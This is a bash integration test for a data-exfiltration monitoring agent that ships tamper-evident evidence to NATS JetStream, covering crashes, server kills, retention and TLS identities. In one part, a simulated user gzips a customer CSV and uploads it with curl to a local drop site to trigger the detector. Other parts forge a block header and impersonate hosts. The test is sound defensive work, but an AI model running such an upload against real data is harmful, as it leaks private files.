#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Fleet shipping against real nats-servers with JetStream on 127.0.0.1:14220-14259 and the
# real agent: after a bulk read and upload the stream holds exactly the local store's
# blocks and the alerts; the agent SIGKILLed mid-shipping (and its cursor rewound, as a
# crash between ack and cursor write leaves it) resumes with every block once; the server
# killed in the middle of a burst of over 1M records and restarted later loses nothing;
# TLS with per-host identities refuses a wrong CA, an unknown identity and a host
# publishing as another, and cannot read the stream, while the agent keeps recording;
# a three-node cluster loses nothing when the stream leader is killed mid-shipping.
# An altered block header in the store does not stop later blocks from shipping; retention
# deleting blocks never shipped is recorded in the chain, the status and the heartbeat.
# usage: test_fleet.sh [PART...]
#        (parts: basic sigkill tamper retention tls server cluster; default all)
. "$(dirname "$0")/../lib/itest.sh"
. "$LIB/nats_fixture.sh"

PARTS=${*:-basic sigkill tamper retention tls server cluster}
make -s -C "$ROOT" "build/tests/nats_tool" || die "cannot build nats_tool"
gcc -O2 -o "$T/workloads" "$ROOT/bench/workloads.c" || die "cannot build workloads"
ensure_user alice 1101
SRC=$T/src
mkdir -p "$SRC"
chmod a+rx "$T" "$SRC"
"$T/workloads" mkfiles "$SRC/many" 20000 2048 >/dev/null || die "mkfiles"
head -c 16000000 /dev/urandom | base64 -w 100 >"$SRC/customers.csv"
chmod -R a+rX "$SRC"

# write_config NAME SERVERS HOST_ID [FLEET_EXTRA]: one agent's config and directories.
write_config() {
	local d=$T/agent-$1
	mkdir -p "$d"
	cat >"$d/cfg.yaml" <<YAML
sources:
  paths: ["$SRC"]
  services: []
egress:
  allow: ["127.0.0.2/32"]
detect:
  bulk_read: 10MiB
  bulk_objects: 1000000
  exfil: 1MiB
output:
  alerts: $d/alerts.jsonl
  evidence: $d/evidence
  syslog: off
evidence:
  seal_interval: 1s
agent:
  state_dir: $d/state
  poll_interval: 200ms
fleet:
  servers: [$2]
  host_id: $3
  heartbeat: 2s
${4:-}
YAML
}

# agent_start NAME: runs agent NAME; AGENT_PID[NAME].
declare -A AGENT_PID
agent_start() {
	local d=$T/agent-$1
	rm -f "$d/status.json"   # a killed agent's last one must not be read as this one's
	"$BUILD/exfilmond" -c "$d/cfg.yaml" --status "$d/status.json" --stderr --log-level info \
		2>>"$d/daemon.log" &
	AGENT_PID[$1]=$!
	itest_on_exit "kill -9 ${AGENT_PID[$1]}"
	wait_until 60 test -s "$d/status.json" ||
		{ tail "$d/daemon.log"; die "agent $1 did not start"; }
}
agent_stop() { kill -TERM "${AGENT_PID[$1]}"; wait "${AGENT_PID[$1]}"; }
fleet_field() { # NAME FIELD: from the agent's status file
	python3 -c "import json,sys; v=json.load(open(sys.argv[1]))['fleet'][sys.argv[2]]; print(v)" \
		"$T/agent-$1/status.json" "$2" 2>/dev/null
}
# NAME: utime+stime of the agent's shipping thread and the libnats threads it started
# (they inherit its name, xm-fleet).
fleet_thread_ticks() {
	local t sum=0 v
	for t in /proc/${AGENT_PID[$1]}/task/*; do
		[ "$(cat "$t/comm" 2>/dev/null)" = xm-fleet ] || continue
		v=$(awk '{ print $14 + $15 }' "$t/stat" 2>/dev/null) && sum=$((sum + ${v:-0}))
	done
	echo "$sum"
}
shipped_at_least() { [ "$(fleet_field "$1" blocks_shipped)" -ge "$2" ] 2>/dev/null; }
caught_up() { [ "$(fleet_field "$1" backlog_blocks)" = 0 ] && [ "$(fleet_field "$1" connected)" = True ]; }

# burst OPS: open+read+close of 20,000 watched files, OPS times, in a login session
# (about two evidence records per operation).
burst() { "$T/workloads" -l 1101 -n "$1" openclose "$SRC/many" 20000 >/dev/null; }

# compare NAME URL HOST: the stream's blocks of HOST against the agent's store: same
# blocks, same hashes, in order, each once, each intact.
compare() {
	local d=$T/agent-$1
	"$NATS_TOOL" dump "$2" evidence >"$d/stream.all" || die "dump $2"
	grep " $3:" "$d/stream.all" >"$d/stream.txt"
	"$NATS_TOOL" local "$d/evidence" >"$d/local.txt" || die "local $d/evidence"
	check "$1: blocks in the stream = blocks in the store" "$(wc -l <"$d/stream.txt")" \
		"$(wc -l <"$d/local.txt")"
	check "$1: same blocks, same hashes, same order" \
		"$(cut -d' ' -f1,2 "$d/stream.txt" | cmp -s - "$d/local.txt" && echo same)" same
	check "$1: no block twice" "$(cut -d' ' -f1 "$d/stream.txt" | sort | uniq -d | wc -l)" 0
	check "$1: every shipped block hashes to its header" "$(grep -vc ' ok$' "$d/stream.txt")" 0
}

part_basic() {
	local url=nats://127.0.0.1:14221 d=$T/agent-basic
	echo "basic: bulk read and upload, shipped block for block"
	nats_start n0 14221
	nats_stream "$url" 1
	python3 "$LIB/dropsite.py" --addr 127.0.0.1 --port 14250 --count "$T/drop.count" \
		>"$T/drop.out" 2>&1 &
	itest_on_exit "kill $!"
	wait_until 30 grep -q ready "$T/drop.out" || die "dropsite"
	write_config basic "$url" hostA
	agent_start basic
	python3 "$LIB/in_session.py" --uid 1101 --info "$T/alice.info" -- bash -c \
		"cd ~ && cat $SRC/customers.csv > fleet.csv && gzip -1 -f fleet.csv &&
		 curl -sS -T fleet.csv.gz http://127.0.0.1:14250/upload -o /dev/null && rm -f fleet.csv.gz" ||
		die "alice workload"
	wait_until 20 grep -q '"exfiltration"' "$d/alerts.jsonl" || die "no exfiltration alert"
	wait_until 20 caught_up basic || die "backlog not shipped"
	# A seal may land between two looks: take a status that shows the caught-up state.
	wait_until 10 bash -c "'$BUILD/exfilctl' status --file '$d/status.json' >'$d/status.txt';
		grep -q '^fleet backlog: *0 blocks' '$d/status.txt'"
	check "status: connected server" "$(grep -c "^fleet: *connected to $url as hostA" "$d/status.txt")" 1
	check "status: backlog and last ack" "$(grep -cE '^fleet backlog: +0 blocks|^fleet shipped: .*last ack hostA:' "$d/status.txt")" 2
	check "status: heartbeat" "$(grep -c '^fleet heartbeat: [1-9][0-9]* sent, last' "$d/status.txt")" 1
	agent_stop basic
	check "agent exit status" "$?" 0
	compare basic "$url" hostA
	"$NATS_TOOL" dump "$url" alert >"$d/alerts.stream"
	check "every alert revision arrived once" "$(grep -c '^hostA:alert:' "$d/alerts.stream")" \
		"$(wc -l <"$d/alerts.jsonl")"
	check "the exfiltration alert arrived" "$(grep -c '"exfiltration"' "$d/alerts.stream")" \
		"$(grep -c '"exfiltration"' "$d/alerts.jsonl")"
	"$NATS_TOOL" dump "$url" heartbeat >"$d/hb.stream"
	check "last heartbeat says clean shutdown" \
		"$(tail -1 "$d/hb.stream" | python3 -c 'import json,sys; l=sys.stdin.read().split(" ",2)[2]; h=json.loads(l); print(h["clean_shutdown"], h["chain"]["block"] + 1 == h["blocks_written"])')" "True True"
	check "heartbeats before it do not" "$(grep -c '"clean_shutdown":true' "$d/hb.stream")" 1
}

part_sigkill() {
	local url=nats://127.0.0.1:14221 d=$T/agent-kill
	echo "sigkill: agent killed while shipping, cursor rewound, restarted"
	[ -n "${NATS_PID[n0]:-}" ] || { nats_start n0 14221; nats_stream "$url" 1; }
	write_config kill "$url" hostK
	agent_start kill
	burst 300000 &
	local bp=$!
	wait_until 60 shipped_at_least kill 20 || die "shipping did not start"
	check "agent killed in the middle of the burst" "$(kill -0 $bp && echo yes)" yes
	kill -9 "${AGENT_PID[kill]}"
	wait "${AGENT_PID[kill]}" 2>/dev/null
	wait $bp
	# A crash between the ack and the cursor's rename leaves the cursor behind.
	local next
	next=$(sed -n 's/.* next=\([0-9]*\) .*/\1/p' "$d/state/fleet.cursor")
	check_ge "cursor persisted before the kill" "$next" 20
	sed -i "s/ next=$next / next=$((next - 5)) /" "$d/state/fleet.cursor"
	agent_start kill
	burst 50000
	wait_until 60 caught_up kill || die "backlog not shipped after restart"
	check_ge "re-sent blocks were recognised as duplicates" "$(fleet_field kill duplicates)" 5
	agent_stop kill
	compare kill "$url" hostK
}

part_tamper() {
	local url=nats://127.0.0.1:14221 d=$T/agent-tamper seg
	echo "tamper: a block header altered before it was shipped does not stop the rest"
	[ -n "${NATS_PID[n0]:-}" ] || { nats_start n0 14221; nats_stream "$url" 1; }
	# Recorded while no server answers (nothing listens on 14229).
	write_config tamper nats://127.0.0.1:14229 hostT
	agent_start tamper
	burst 20000
	wait_true 20 '[ -n "$(ls "$d"/evidence/seg-*.xev 2>/dev/null)" ]'
	agent_stop tamper
	seg=$(ls "$d"/evidence/seg-*.xev | head -1)
	"$NATS_TOOL" local "$d/evidence" >"$d/before.txt"
	check_ge "blocks recorded offline" "$(wc -l <"$d/before.txt")" 4
	# Block 1's number field (bytes 16-23) rewritten: its header stays plausible, the walk
	# to later blocks of the segment finds the wrong number there.
	python3 - "$seg" <<'PY'
import struct, sys
with open(sys.argv[1], "r+b") as f:
    h = f.read(128)
    comp_len = struct.unpack_from("<I", h, 60)[0]
    off = 128 + comp_len
    f.seek(off + 16)
    f.write(struct.pack("<Q", 1000000))
PY
	sed -i "s|nats://127.0.0.1:14229|$url|" "$d/cfg.yaml"
	agent_start tamper
	burst 2000
	wait_until 60 caught_up tamper || die "tamper: backlog not shipped"
	check_ge "unreadable blocks skipped and counted" "$(fleet_field tamper unreadable_blocks)" 1
	agent_stop tamper
	"$NATS_TOOL" dump "$url" evidence | grep " hostT:" >"$d/stream.txt"
	check "block 0 shipped" "$(grep -c '^0 ' "$d/stream.txt")" 1
	check "the blocks after the damage shipped (new segment, up to the head)" \
		"$(tail -1 "$d/stream.txt" | cut -d' ' -f1)" \
		"$(python3 - "$(ls "$d"/evidence/seg-*.xev | tail -1)" <<'PY'
import struct, sys
data, off, last = open(sys.argv[1], "rb").read(), 0, None
while off + 128 <= len(data):
    last = struct.unpack_from("<Q", data, off + 16)[0]
    off += 128 + struct.unpack_from("<I", data, off + 60)[0]
print(last)
PY
)"
	check "no block twice" "$(cut -d' ' -f1 "$d/stream.txt" | sort | uniq -d | wc -l)" 0
	"$BUILD/exfilctl" verify --dir "$d/evidence" >"$d/verify.txt" 2>&1
	check "verify names the altered block" "$(grep -c 'NOT INTACT' "$d/verify.txt")" 1
}

part_retention() {
	local url=nats://127.0.0.1:14221 d=$T/agent-ret deleted
	echo "retention: blocks deleted before they were shipped are recorded and reported"
	[ -n "${NATS_PID[n0]:-}" ] || { nats_start n0 14221; nats_stream "$url" 1; }
	write_config ret nats://127.0.0.1:14229 hostR
	sed -i "s|^evidence:|evidence:\n  segment_size: 64KiB|" "$d/cfg.yaml"
	agent_start ret
	burst 40000
	agent_stop ret
	check_ge "segments recorded offline" "$(ls "$d"/evidence/seg-*.xev | wc -l)" 3
	# Still offline, with a size limit: the first maintenance deletes the oldest segments.
	sed -i "s|^evidence:|evidence:\n  retention_size: 64KiB|" "$d/cfg.yaml"
	agent_start ret
	wait_true 20 '[ "$(fleet_field ret deleted_unshipped_blocks)" -gt 0 ] 2>/dev/null'
	deleted=$(fleet_field ret deleted_unshipped_blocks)
	check_ge "status counts the deleted unshipped blocks" "$deleted" 1
	agent_stop ret
	check "the daemon warned" "$(grep -c 'that were never shipped' "$d/daemon.log" | awk '{print ($1 > 0)}')" 1
	# With a server, and no more deletions: the stream must then equal what is on disk.
	sed -i -e "s|nats://127.0.0.1:14229|$url|" -e "/retention_size: 64KiB/d" "$d/cfg.yaml"
	agent_start ret
	wait_until 60 caught_up ret || die "retention: backlog not shipped"
	agent_stop ret
	compare ret "$url" hostR
	"$NATS_TOOL" dump "$url" heartbeat | grep '^hostR:' | tail -1 | cut -d' ' -f3- >"$d/hb.json"
	check "heartbeat deleted_unshipped.blocks" "$(python3 -c "import json;print(json.load(open('$d/hb.json'))['deleted_unshipped']['blocks'])")" "$deleted"
	check "retention records with the unshipped blocks in the stream's evidence" \
		"$("$NATS_TOOL" records "$d/evidence" | grep -c '"unshipped":{"blocks":' |
		   awk '{print ($1 > 0) ? "True" : "False"}')" True
}

part_server() {
	local url=nats://127.0.0.1:14221 d=$T/agent-srv
	echo "server: nats-server killed during a burst of over 1M records, restarted later"
	[ -n "${NATS_PID[n0]:-}" ] || { nats_start n0 14221; nats_stream "$url" 1; }
	write_config srv "$url" hostS
	agent_start srv
	local before
	before=$(python3 -c "import json;print(json.load(open('$d/status.json'))['evidence_next_seq'])")
	# One to two records per operation, fewer when the loaded machine drops ring records
	# (the shortfall is topped up below, after the restart, within the same burst).
	burst 900000 &
	local bp=$!
	wait_until 60 shipped_at_least srv 10 || die "shipping did not start"
	check "server killed in the middle of the burst" "$(kill -0 $bp && echo yes)" yes
	nats_kill n0
	local ticks0
	ticks0=$(fleet_thread_ticks srv)
	# 15 s down: longer than the agent's publish timeout and reconnect backoff together,
	# so it is offline for many seals; below JetStream's 2-minute duplicate window.
	sleep 15
	check "agent says it is not connected" "$(fleet_field srv connected)" False
	# Reconnecting backs off: it once spun on a refused connect, a core's worth.
	check "shipping thread idle while the server is down (CPU ticks in 15 s <= 100)" \
		"$(( $(fleet_thread_ticks srv) - ticks0 <= 100 ))" 1
	nats_run n0
	wait $bp
	local n=0
	while [ $(( $(python3 -c "import json;print(json.load(open('$d/status.json'))['evidence_next_seq'])") \
		- before )) -lt 1000000 ] && [ $n -lt 10 ]; do
		burst 100000
		n=$((n + 1))
	done
	wait_until 120 caught_up srv || die "backlog not shipped after the server came back"
	local after
	after=$(python3 -c "import json;print(json.load(open('$d/status.json'))['evidence_next_seq'])")
	check_ge "burst wrote over 1M records" "$((after - before))" 1000000
	agent_stop srv
	compare srv "$url" hostS
}

part_cluster() {
	local urls="nats://127.0.0.1:14231, nats://127.0.0.1:14232, nats://127.0.0.1:14233"
	local d=$T/agent-cl leader port
	echo "cluster: three nodes, replicas 3, stream leader killed mid-shipping"
	nats_cluster_start c1 c2 c3
	nats_stream nats://127.0.0.1:14231 3
	write_config cl "$urls" hostC
	agent_start cl
	burst 300000 &
	local bp=$!
	wait_until 60 shipped_at_least cl 20 || die "shipping did not start"
	leader=$("$NATS_TOOL" leader nats://127.0.0.1:14231)
	case "$leader" in c1|c2|c3) ;; *) die "no stream leader ($leader)" ;; esac
	check "leader killed in the middle of the burst" "$(kill -0 $bp && echo yes)" yes
	nats_kill "$leader"
	echo "  killed stream leader $leader"
	wait $bp
	wait_until 120 caught_up cl || die "backlog not shipped after the leader was killed"
	agent_stop cl
	for port in 14231 14232 14233; do
		[ "c$((port - 14230))" = "$leader" ] && continue
		break
	done
	compare cl "nats://127.0.0.1:$port" hostC
}

# make_cert NAME CN CA: key and certificate signed by CA (CA "self": a new CA).
make_cert() {
	local name=$1 cn=$2 ca=$3 dir=$T/pki
	mkdir -p "$dir"
	if [ "$ca" = self ]; then
		openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=$cn" \
			-keyout "$dir/$name.key" -out "$dir/$name.pem" 2>/dev/null
		return
	fi
	openssl req -newkey rsa:2048 -nodes -subj "/CN=$cn" -keyout "$dir/$name.key" \
		-out "$dir/$name.csr" 2>/dev/null
	printf 'subjectAltName=IP:127.0.0.1,DNS:localhost\n' >"$dir/$name.ext"
	openssl x509 -req -in "$dir/$name.csr" -CA "$dir/$ca.pem" -CAkey "$dir/$ca.key" \
		-CAcreateserial -days 2 -extfile "$dir/$name.ext" -out "$dir/$name.pem" 2>/dev/null
}

# tls_agent NAME HOST_ID CA CERT: an agent against the TLS server.
tls_agent() {
	local p=$T/pki
	write_config "$1" tls://127.0.0.1:14225 "$2" \
		"  tls: {ca: $p/$3.pem, cert: $p/$4.pem, key: $p/$4.key}"
	agent_start "$1"
}

# refused NAME TEXT: the agent logs TEXT, keeps recording, ships nothing.
refused() {
	local d=$T/agent-$1
	wait_until 20 grep -q "$2" "$d/daemon.log" || { grep fleet "$d/daemon.log" | tail -3; }
	check "$1: refused with a clear error" "$(grep -c "fleet: .*$2" "$d/daemon.log" | awk '{print ($1 > 0)}')" 1
	burst 2000
	wait_true 10 "[ \"\$(python3 -c \"import json;print(json.load(open('$d/status.json'))['evidence_next_seq'])\")\" -gt 100 ]"
	check "$1: keeps recording locally" "$("$BUILD/exfilctl" verify --dir "$d/evidence" >/dev/null && echo intact)" intact
	check "$1: ships nothing" "$(fleet_field "$1" blocks_shipped)" 0
	agent_stop "$1"
}

part_tls() {
	local p=$T/pki url=tls://127.0.0.1:14225 host
	echo "tls: server verification, per-host identities and permissions"
	make_cert ca exfilmon-test-ca self
	make_cert rogue-ca rogue-ca self
	make_cert server localhost ca
	make_cert admin admin ca
	make_cert hostA hostA ca
	make_cert mallory mallory ca
	{
		echo "tls { cert_file: \"$p/server.pem\", key_file: \"$p/server.key\", ca_file: \"$p/ca.pem\", verify_and_map: true }"
		echo "authorization { users = ["
		echo "  { user: \"CN=admin\" }"
		for host in hostA; do
			echo "  { user: \"CN=$host\", permissions: {"
			echo "      publish: { allow: [\"exfilmon.evidence.$host\", \"exfilmon.alert.$host\", \"exfilmon.heartbeat.$host\", \"exfilmon.policyevent.$host\"] },"
			echo "      subscribe: { allow: [\"_INBOX.$host.>\"] } } }"
		done
		echo "] }"
	} >"$T/tls-extra.conf"
	nats_start tls 14225 "$T/tls-extra.conf"
	XT_CA=$p/ca.pem XT_CERT=$p/admin.pem XT_KEY=$p/admin.key nats_stream "$url" 1

	tls_agent tls-good hostA ca hostA
	wait_until 30 shipped_at_least tls-good 1 || die "hostA over TLS shipped nothing"
	check "own identity, own subjects: shipping" "$(fleet_field tls-good connected)" True
	agent_stop tls-good

	tls_agent tls-wrongca hostA rogue-ca hostA
	refused tls-wrongca "SSL handshake error: .*unable to get local issuer certificate"
	tls_agent tls-mallory mallory ca mallory
	refused tls-mallory "Authorization Violation"
	tls_agent tls-foreign hostB ca hostA
	refused tls-foreign "Permissions Violation for Publish to \"exfilmon.[a-z]*.hostB\""

	check "host A cannot read the stream" "$(XT_CA=$p/ca.pem XT_CERT=$p/hostA.pem \
		XT_KEY=$p/hostA.key XT_INBOX=_INBOX.hostA timeout 20 "$NATS_TOOL" dump "$url" evidence \
		>/dev/null 2>"$T/read.err" && echo read || echo refused)" refused
	check "host A cannot subscribe to the subjects either" "$(XT_CA=$p/ca.pem \
		XT_CERT=$p/hostA.pem XT_KEY=$p/hostA.key timeout 20 "$NATS_TOOL" sub "$url" 'exfilmon.>' \
		2>&1 | grep -c 'Permissions Violation for Subscription')" 1
	check "host A cannot store under another host's subject" "$(XT_CA=$p/ca.pem \
		XT_CERT=$p/hostA.pem XT_KEY=$p/hostA.key XT_INBOX=_INBOX.hostA timeout 20 \
		"$NATS_TOOL" publish "$url" exfilmon.evidence.hostB x:1 forged >/dev/null 2>&1 &&
		echo stored || echo refused)" refused
	check "nothing stored for hostB" "$(XT_CA=$p/ca.pem XT_CERT=$p/admin.pem XT_KEY=$p/admin.key \
		"$NATS_TOOL" dump "$url" evidence | grep -c ' hostB:')" 0
	XT_CA=$p/ca.pem XT_CERT=$p/admin.pem XT_KEY=$p/admin.key compare tls-good "$url" hostA
}

# A shell error inside a part abandons the loop; this check makes that a failure.
ran=0
for part in $PARTS; do "part_$part"; ran=$((ran + 1)); done
check "every part ran" "$ran" "$(wc -w <<<"$PARTS")"
itest_finish
